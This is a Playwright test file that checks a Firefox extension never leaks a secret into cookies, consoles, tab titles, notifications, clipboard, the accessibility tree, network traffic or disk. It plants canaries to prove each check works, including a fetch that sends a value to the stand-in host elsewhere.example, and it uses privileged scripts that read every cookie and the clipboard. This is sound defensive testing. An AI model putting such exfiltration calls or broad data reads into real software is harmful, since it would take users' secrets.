import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { expect, test } from '@playwright/test';
import { mintSecret } from '../../dev-server/secret';
import { findFirefox, whyNoFirefox } from '../../scripts/find-browser.mjs';
import { FIREFOX_PAGES, launchFirefox, PRINTED } from '../../scripts/firefox';
import { connectProxy } from '../connect-proxy';
import { ADD_COOKIE, CLIPBOARD, END_BACKGROUND } from '../e2e/firefox-itself';
import { findSecret } from '../leak-scan';
import { type Channel, pageChannels } from './channels';
import {
  diagnosticsOf,
  exportsOf,
  goOn,
  leaksIn,
  networkOf,
  type Person,
  plantEverywhere,
  secretsOf,
  useSecret,
} from './leaks';
import { openPlace, type Place } from './place';

const HERE = 'https://dev.azure.com/fabrikam';

let place: Place;
let proxy: Awaited<ReturnType<typeof connectProxy>>;

test.skip(findFirefox() === undefined, whyNoFirefox());

test.beforeEach(async () => {
  place = await openPlace();
  proxy = await connectProxy(place.port);
});

test.afterEach(async () => {
  await proxy.close();
  await place.close();
});

type Firefox = Awaited<ReturnType<typeof launchFirefox>>;

/** What the extension has Firefox show as a notification is written down where it is shown. */
const HEAR_NOTIFICATIONS = `
  const window = Services.wm.getMostRecentWindow('navigator:browser');
  window.told = [];
  const service = {
    QueryInterface: ChromeUtils.generateQI(['nsIAlertsService']),
    showAlert: ({ title, text, cookie, name }) => void window.told.push([title, text, cookie, name].join(' ')),
    closeAlert: () => undefined,
  };
  const factory = { createInstance: (id) => service.QueryInterface(id) };
  const id = Services.uuid.generateUUID();
  Components.manager.QueryInterface(Ci.nsIComponentRegistrar)
    .registerFactory(id, 'alerts', '@mozilla.org/alerts-service;1', factory);`;
const NOTIFICATIONS = `return Services.wm.getMostRecentWindow('navigator:browser').told.join('\\n')`;
const NOTIFY = `
  const { runtime, notifications } = browser;
  await notifications.create('leak', { type: 'basic', iconUrl: runtime.getURL('icons/128.png'), title: 'x', message: given[0] });`;

/** As long as somebody holds it, Firefox keeps the tree of every page. */
const HOLD_ACCESSIBILITY = `
  Services.wm.getMostRecentWindow('navigator:browser').accessibility =
    Cc['@mozilla.org/accessibilityService;1'].getService(Ci.nsIAccessibilityService);`;
const ACCESSIBILITY = `
  const { accessibility, document } = Services.wm.getMostRecentWindow('navigator:browser');
  const texts = [];
  const walk = (node) => {
    if (!node) return;
    for (const name of ['name', 'value', 'description'])
      try { texts.push(node[name]); } catch {}
    try { texts.push(node.QueryInterface(Ci.nsIAccessibleText).getText(0, -1)); } catch {}
    for (let child = node.firstChild; child; child = child.nextSibling) walk(child);
  };
  walk(accessibility.getAccessibleFor(document));
  return texts.join('\\n');`;

const TABS = `
  const { gBrowser } = Services.wm.getMostRecentWindow('navigator:browser');
  const textOf = ({ label, linkedBrowser }) => [label, linkedBrowser.contentTitle, linkedBrowser.currentURI.spec].join(' ');
  return gBrowser.tabs.map(textOf).join('\\n');`;

const COOKIES = `return Services.cookies.cookies.map(({ name, value, host }) => [name, value, host].join(' ')).join('\\n')`;

const MESSAGES = `return Services.console.getMessageArray().map((each) => each.message).join('\\n')`;
const LOG = `Services.console.logStringMessage(given[0])`;

/** From the event page itself, as the product would. */
const WARN_IN_BACKGROUND = '(await browser.runtime.getBackgroundPage()).console.warn(given[0])';

function personAt(firefox: Firefox): Person {
  return {
    evaluate: firefox.evaluate,
    end: async () => {
      await firefox.asBrowser(END_BACKGROUND);
      return true;
    },
    goto: async (address) => {
      await firefox.goto('about:blank');
      await firefox.goto(`${FIREFOX_PAGES}/src/${address}`);
    },
    press: firefox.press,
    tick: firefox.tick,
    fill: firefox.fill,
    choose: firefox.choose,
    downloads: firefox.downloads,
  };
}

async function launch(): Promise<Firefox> {
  const firefox = await launchFirefox({ proxyPort: proxy.port, ...place.home });
  await firefox.asBrowser(HOLD_ACCESSIBILITY);
  await firefox.asBrowser(HEAR_NOTIFICATIONS);
  await firefox.install('dist/firefox');
  await firefox.asBrowser(ADD_COOKIE, place.server.signIn());
  return firefox;
}

function channelsOf(firefox: Firefox, person: Person) {
  const isOnScreen = ({ name }: Channel) => name === 'DOM';
  const printed = () => readFile(path.join(place.folder, 'profile', PRINTED), 'utf8');
  const onScreen: Channel[] = [
    ...pageChannels(person).filter(isOnScreen),
    {
      name: 'accessibility tree',
      read: async () => String(await firefox.asBrowser(ACCESSIBILITY)),
      plant: (text) => firefox.evaluate(`document.querySelector('h1, h2').setAttribute('aria-label', given[0])`, text),
    },
  ];
  const others: Channel[] = [
    exportsOf(person),
    diagnosticsOf(person),
    ...pageChannels(person).filter((each) => !isOnScreen(each)),
    {
      name: 'cookies',
      read: async () => String(await firefox.asBrowser(COOKIES)),
      plant: (text) => firefox.asBrowser(ADD_COOKIE, `leak=${text}`),
    },
    networkOf(place.heard, (text) =>
      firefox.evaluate(`await fetch('https://elsewhere.example/?' + given[0]).catch(() => undefined)`, text),
    ),
    {
      name: 'console of a page',
      read: printed,
      plant: (text) => firefox.evaluate('window.console.log(given[0])', text),
    },
    {
      name: 'console of the event page',
      read: printed,
      plant: (text) => firefox.evaluate(WARN_IN_BACKGROUND, text),
    },
    {
      name: 'console of the browser',
      read: async () => String(await firefox.asBrowser(MESSAGES)),
      plant: (text) => firefox.asBrowser(LOG, text),
    },
    {
      name: 'titles and addresses',
      read: async () => String(await firefox.asBrowser(TABS)),
      plant: (text) => firefox.evaluate(`document.title = given[0]`, text),
    },
    {
      name: 'notifications',
      read: async () => String(await firefox.asBrowser(NOTIFICATIONS)),
      plant: (text) => firefox.evaluate(NOTIFY, text),
    },
    {
      name: 'clipboard',
      read: async () => String(await firefox.asBrowser(CLIPBOARD)),
      plant: (text) => firefox.evaluate('await navigator.clipboard.writeText(given[0])', text),
    },
  ];
  return { onScreen, others };
}

test('Firefox: a secret is nowhere but where it belongs, and a planted one is found everywhere', async () => {
  const firefox = await launch();
  const person = personAt(firefox);
  const { onScreen, others } = channelsOf(firefox, person);
  try {
    await useSecret(person, place.server, onScreen);
    const lasting = others.filter(({ name }) => !['storage.session', 'clipboard'].includes(name));
    expect(await leaksIn(lasting, secretsOf(place.server)), 'while it waits to be taken').toEqual([]);
    await goOn(person, place.server);
    expect(await firefox.asBrowser(NOTIFICATIONS), 'notifications are heard').toContain('fabrikam');
    const all = [...onScreen, ...others];
    expect(await leaksIn(all, secretsOf(place.server)), 'when everything is done').toEqual([]);
    const planted = await plantEverywhere([...onScreen, ...others]);
    const inHistory = mintSecret(Date.now());
    await firefox.goto(`${HERE}?${inHistory}`);
    await firefox.quit();
    for (const secret of secretsOf(place.server))
      expect(findSecret(place.folder, secret), 'after it was closed').toEqual([]);
    for (const name of ['storage.local', 'console of a page', 'cookies'])
      expect(findSecret(place.folder, planted.get(name) ?? ''), `${name} on the disk`).not.toEqual([]);
    expect(findSecret(place.folder, inHistory).join(' '), 'the history on the disk').toContain('places.sqlite');
  } finally {
    await firefox.close();
  }
});

test('Firefox: nor after the browser was killed while a secret waits to be taken', async () => {
  const firefox = await launch();
  const person = personAt(firefox);
  const { onScreen } = channelsOf(firefox, person);
  try {
    await useSecret(person, place.server, onScreen);
    const leak = mintSecret(Date.now());
    await firefox.evaluate('await browser.storage.local.set({ leak: given[0] })', leak);
    await expect.poll(() => findSecret(place.folder, leak), 'a planted one is on the disk').not.toEqual([]);
  } finally {
    await firefox.close(); // SIGKILL
  }
  for (const secret of secretsOf(place.server)) expect(findSecret(place.folder, secret)).toEqual([]);
});
